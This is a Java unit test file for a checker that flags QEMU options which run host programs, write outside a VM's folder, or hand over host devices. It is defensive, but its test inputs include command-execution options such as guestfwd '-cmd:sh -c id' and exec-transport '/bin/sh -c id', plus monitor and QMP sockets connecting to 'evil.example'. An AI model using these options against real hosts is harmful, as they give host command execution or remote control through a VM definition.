package org.wheelhouse.core.trust;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Set;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.wheelhouse.host.DefinitionText;
import org.wheelhouse.host.QemuCommandLine;

/** Each way by which QEMU's options run a program, write outside of the folder or hand over a device. */
class HostEffectsTest {

	private static final Path FOLDER = Path.of("/vm/a");

	private static String told(String options) throws Exception {
		var line = QemuCommandLine.parse(options.startsWith("-") ? "qemu-system-x86_64 " + options : options);
		return String.join("; ", HostEffects.of(line.program(), Set.of(Path.of("/home/me/qemu/qemu-system-x86_64")),
				line.options(), FOLDER).stream().map(effect -> effect.kind() + " " + effect.target()).toList());
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`', value = {
			"-netdev tap,id=n,script=./up.sh,downscript=no | RUNS /vm/a/up.sh",
			"-netdev tap,id=n,script=up.sh,downscript= | RUNS /vm/a/up.sh",
			"-netdev tap,id=n | RUNS /etc/qemu-ifup; RUNS /etc/qemu-ifdown",
			"--nic tap,downscript=/x/down,script=no | RUNS /x/down",
			"-net tap,helper=/x/helper | RUNS /x/helper",
			"-netdev bridge,id=n,br=br0 | RUNS qemu-bridge-helper",
			"-netdev '{\"type\":\"tap\",\"id\":\"n\",\"script\":\"/x/up\",\"downscript\":\"no\"}' | RUNS /x/up",
			"-netdev tap,id=n,script=no,downscript=no -set netdev.n.script=/x/up | RUNS /x/up",
			"-netdev user,id=n,guestfwd=tcp:10.0.2.100:80-cmd:/x/prog | RUNS /x/prog",
			"-nic 'user,guestfwd=tcp:10.0.2.100:80-cmd:sh -c id%s' | RUNS sh -c id%s",
			"-netdev '{\"type\":\"user\",\"id\":\"n\",\"guestfwd\":[{\"str\":\"tcp:1.2.3.4:1-cmd:id\"}]}' | RUNS id",
			"-netdev user,id=n,guestfwd=tcp:10.0.2.100:80-file:/x/log | WRITES /x/log",
			"-netdev user,id=n,smb=/home | RUNS /home",
			"-netdev passt,id=n,path=/x/passt | RUNS /x/passt",
			"-netdev stream,id=n,server=on,addr.type=unix,addr.path=/x/s | WRITES /x/s",
			"-netdev dgram,id=n,local.type=unix,local.path=/x/s | WRITES /x/s",
			"-incoming 'exec:gunzip <x' | RUNS gunzip <x",
			"-incoming '{\"channel-type\":\"main\",\"addr\":{\"transport\":\"exec\",\"args\":[\"/bin/sh\",\"-c\",\"id\"]}}' "
					+ "| RUNS /bin/sh -c id",
			"-incoming unix:/x/s | WRITES /x/s",
			"-plugin ./libx.so | RUNS /vm/a/libx.so",
			"-plugin file=/x/libx.so,arg=1 | RUNS /x/libx.so",
			"-monitor tcp:127.0.0.1:5931,server,nowait | RUNS 127.0.0.1:5931",
			"-qmp telnet:evil.example:1 | RUNS evil.example:1",
			"-qmp unix:/x/s | RUNS /x/s", "-serial mon:tcp::4444,server=on | RUNS :4444", "-s | RUNS tcp port 1234",
			"-gdb tcp::9000 | RUNS :9000",
			"-chardev socket,id=m,host=evil,port=1 -mon chardev=m,mode=control | RUNS evil:1",
			"-chardev socket,id=m,port=1,server=on -qmp chardev:m | RUNS all addresses:1",
			"-semihosting | RUNS semihosting", "-semihosting-config enable=on,target=native | RUNS semihosting",
			"-display spice-app | RUNS the desktop's SPICE viewer", "./qemu-x -m 1 | RUNS /vm/a/qemu-x",
			"/tmp/qemu-system-x86_64 -m 1 | RUNS /tmp/qemu-system-x86_64",
			"-chardev file,id=c,path=/x/log | WRITES /x/log", "-chardev pipe,id=c,path=../b/p | WRITES /vm/b/p",
			"-chardev socket,id=c,path=/x/s,server | WRITES /x/s", "-chardev pty,id=c,logfile=/x/log | WRITES /x/log",
			"-chardev null,id=c -set chardev.c.logfile=/x/log | WRITES /x/log", "-serial file:/x/log | WRITES /x/log",
			"-qmp unix:/x/s,server=on | WRITES /x/s", "-serial pipe:/x/p | WRITES /x/p",
			"-serial /dev/ttyS0 | HANDS_OVER /dev/ttyS0", "-parallel /dev/parport0 | HANDS_OVER /dev/parport0",
			"-pidfile /x/pid | WRITES /x/pid", "-D /x/log -d int | WRITES /x/log",
			"-trace enable=x,file=/x/trace | WRITES /x/trace", "-writeconfig /x/cfg | WRITES /x/cfg",
			"-dump-vmstate /x/s.json | WRITES /x/s.json", "-qtest-log /x/q | WRITES /x/q",
			"-machine virt,dumpdtb=/x/dtb | WRITES /x/dtb", "-icount shift=1,rr=record,rrfile=/x/rr | WRITES /x/rr",
			"-audiodev wav,id=a,path=/x/a.wav | WRITES /x/a.wav", "-vnc unix:/x/vnc | WRITES /x/vnc",
			"-display vnc=unix:/x/vnc | WRITES /x/vnc", "-spice unix=on,addr=/x/spice | WRITES /x/spice",
			"-object filter-dump,id=f,netdev=n,file=/x/pcap | WRITES /x/pcap",
			"-object memory-backend-file,id=m,size=1G,mem-path=/x/mem,share=on | WRITES /x/mem",
			"-mem-path /mnt/huge | WRITES /mnt/huge",
			"-virtfs local,path=/home,mount_tag=h,security_model=none | WRITES /home",
			"-fsdev local,id=f,path=..,security_model=none | WRITES /vm", "-perfmap | WRITES /tmp/perf-PID.map",
			"-device usb-mtp,rootdir=/home,readonly=off | WRITES /home",
			"-device usb-mtp,rootdir=/home -global usb-mtp.readonly=off | WRITES /home",
			"-hda /x/d.qcow2 | WRITES /x/d.qcow2", "/x/d.qcow2 -hdb d.qcow2 | RUNS nothing",
			"-fda /dev/fd0 | WRITES /dev/fd0",
			"-drive file=/x/d.raw,format=raw | WRITES /x/d.raw", "-drive file=d.raw -set drive.x.file=/no | ``",
			"-drive id=x,file=d.raw -set drive.x.file=/x/d | WRITES /x/d",
			"-drive file=file:/x/d,if=none | WRITES /x/d", "-drive file.driver=file,file.filename=/x/d | WRITES /x/d",
			"-drive file=fat:rw:/home | WRITES /home", "-drive driver=vvfat,dir=/home,rw=on | WRITES /home",
			"-drive 'file=json:{\"driver\":\"raw\",,\"file\":{\"driver\":\"file\",,\"filename\":\"/x/d\"}}' | WRITES /x/d",
			"-drive file=nbd://h/x | WRITES nbd://h/x", "-drive file.driver=nbd,file.host=h | WRITES nbd",
			"-blockdev file,node-name=f1,filename=/x/d --blockdev qcow2,node-name=q1,file=f1 | WRITES /x/d",
			"-blockdev '{\"driver\":\"raw\",\"node-name\":\"n\",\"file\":{\"driver\":\"file\",\"filename\":\"/x/d\"}}' "
					+ "| WRITES /x/d",
			"-pflash /x/vars.fd | WRITES /x/vars.fd",
			"-device vfio-pci,host=03:00.0 | HANDS_OVER vfio-pci host=03:00.0",
			"-device usb-host,vendorid=0x1,productid=0x2 | HANDS_OVER usb-host vendorid=0x1 productid=0x2",
			"-object input-linux,id=k,evdev=/dev/input/e1 | HANDS_OVER /dev/input/e1",
			"-tpmdev passthrough,id=t,path=/dev/tpm0 | HANDS_OVER /dev/tpm0"})
	void eachIsTold(String options, String expected) throws Exception {
		if (expected.equals("RUNS nothing")) { // a word on its own is not the program
			assertEquals("WRITES /x/d.qcow2", told("qemu-system-x86_64 " + options));
		} else {
			assertEquals(expected, told(options));
		}
	}

	@ParameterizedTest
	@ValueSource(strings = {
			"-m 2G -hda d.qcow2 -cdrom /iso/x.iso -boot d -snapshot", "-hda /x/d -snapshot",
			"-drive file=/x/d,snapshot=on", "-drive file=/x/d,readonly", "-drive file=/x/d.iso,media=cdrom",
			"-drive file=disks/d.qcow2,if=virtio -kernel /boot/vmlinuz -initrd /boot/initrd -bios /usr/share/OVMF/OVMF.fd",
			"-blockdev driver=file,node-name=f,filename=/usr/share/x.fd -blockdev raw,node-name=r,read-only=on,file=f",
			"-blockdev qcow2,node-name=q,file.driver=file,file.filename=d,backing.driver=qcow2,"
					+ "backing.file.driver=file,backing.file.filename=/x/base",
			"-drive file=https://example.org/x.iso", "-drive file=fat:/home", "-drive driver=null-co,size=1G",
			"-netdev user,id=n,hostfwd=tcp:127.0.0.1:2222-:22 -device virtio-net-pci,netdev=n",
			"-netdev tap,id=n,script=no,downscript=no", "-netdev tap,id=n,fd=4", "-netdev vhost-user,id=n,chardev=c",
			"-serial stdio -monitor none -qmp unix:qmp.sock,server=on,wait=off -chardev socket,id=c,path=tpm/socket",
			"-serial tcp:127.0.0.1:5002,server=on -chardev file,id=c,path=log -pidfile vm.pid -D log",
			"-serial file:/dev/null -monitor /dev/null -chardev file,id=o,path=/dev/fdset/1", "-vnc :1 -spice port=1",
			"-object memory-backend-file,id=m,size=1G,mem-path=/dev/shm", "-mem-path /dev/hugepages",
			"-fsdev local,id=f,path=/home,readonly=on,security_model=none", "-device usb-mtp,rootdir=/home",
			"-object rng-random,id=r,filename=/dev/urandom -fw_cfg name=opt/x,file=/x -smbios file=/x -acpitable file=/x",
			"/usr/local/bin/qemu-system-x86_64 -m 1", "/home/me/qemu/qemu-system-x86_64 -m 1", "qemu-kvm -m 1",
			"-semihosting-config enable=off", "-incoming defer", "-audiodev pa,id=a",
			"-icount shift=1,rr=replay,rrfile=/x"})
	void whatStaysInTheMachineOrIsOnlyReadIsNotTold(String options) throws Exception {
		assertEquals("", told(options));
	}

	@Test
	void theSentenceNamesItToTheLetterAndTheOptionHasNoSecret() throws Exception {
		var line = QemuCommandLine.parse("qemu-kvm -drive file=ssh://me:geheim@h/%s");
		var effect = HostEffects.of(line.program(), Set.of(), line.options(), FOLDER).getFirst();
		assertTrue(effect.sentence().startsWith("writes into the disk ssh://"), effect::sentence);
		assertTrue(!(effect.option() + effect.sentence()).contains("geheim"), effect::toString);
	}

	/** Rule 10: the answer holds for these bytes, and for what they mean where they are. */
	@Test
	void theMarkIsOfTheBytesOfTheFilesInItAndOfWhatTheyMean() throws Exception {
		var text = "qemu-kvm -netdev tap,id=n,script=./up.sh,downscript=no -readconfig more.cfg";
		var mark = mark(FOLDER, text, "[drive]\n file = \"/x/d\"");
		assertEquals(mark, mark(FOLDER, text, "[drive]\n file = \"/x/d\""));
		assertTrue(!mark.equals(mark(Path.of("/vm/b"), text, "[drive]\n file = \"/x/d\"")), "another script");
		assertTrue(!mark.equals(mark(FOLDER, text + " ", "[drive]\n file = \"/x/d\"")), "other bytes");
		assertTrue(!mark.equals(mark(FOLDER, text, "[drive]\n file = \"/x/e\"")), "others in the file within");
	}

	@Test
	void theOptionsOfAFileWithinAreReadAndOneThatCannotBeReadIsTold() throws Exception {
		var text = DefinitionText.parse("qemu-kvm -readconfig more.cfg");
		assertEquals(List.of("/x/d"), effects(text, Optional.of("[drive \"a\"]\n  file = \"/x/d\"\n")));
		assertEquals(List.of("/vm/a/more.cfg"), effects(text, Optional.empty()));
	}

	private static List<String> effects(DefinitionText text, Optional<String> config) {
		return DefinitionEffects.of(FOLDER, text, Set.of(), List.of(FOLDER.resolve("more.cfg")), List.of(config))
				.effects().stream().map(HostEffect::target).toList();
	}

	private static String mark(Path folder, String text, String config) throws Exception {
		return DefinitionEffects.of(folder, DefinitionText.parse(text), Set.of(), List.of(folder.resolve("more.cfg")),
				List.of(Optional.of(config))).mark();
	}
}
